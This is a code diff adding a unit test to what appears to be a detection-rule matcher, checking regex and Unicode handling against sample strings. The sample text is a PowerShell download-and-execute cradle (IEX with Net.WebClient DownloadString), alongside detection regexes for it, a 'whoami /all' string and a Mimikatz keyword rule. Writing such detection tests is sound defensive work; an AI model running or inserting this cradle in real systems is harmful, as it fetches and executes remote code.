@@ -524,6 +524,29 @@ describe("conditionAtoms", () => {
     assert.equal(matcher("F|re", [".{4,9}"])("x\u{1F600}\u{1F600}"), false);
     assert.equal(matcher("F|re", [".{5,}"])("abcde"), true);
   });
+  it("regular expressions on one text, several in turn and texts alternating, answer as each would alone", () => {
+    const script = "IEX (New-Object Net.WebClient).DownloadString('http://x/\u00e9') # caf\u00e9";
+    const tests = [
+      matcher("F|re", ["(?i)iex\\s*\\("]),
+      matcher("F|re", ["DownloadString\\('http"]),
+      matcher("F|re|i", ["caf\u00c9$"]),
+      matcher("F|re", ["\\x{FFFD}"]),
+    ];
+    const texts = [script, "whoami /all", script, "a\ud800b", "a\ud800b", script];
+    const expected = [
+      [true, true, true, false],
+      [false, false, false, false],
+      [true, true, true, false],
+      // A lone surrogate reads as U+FFFD, as RE2 reads a string itself.
+      [false, false, false, true],
+      [false, false, false, true],
+      [true, true, true, false],
+    ];
+    assert.deepEqual(
+      texts.map((t) => tests.map((test) => test(t))),
+      expected,
+    );
+  });
   it("keywords become contains atoms over any value", () => {
     assert.deepEqual(conditionAtoms(cond("", ["Mimikatz"])), {
       field: null,
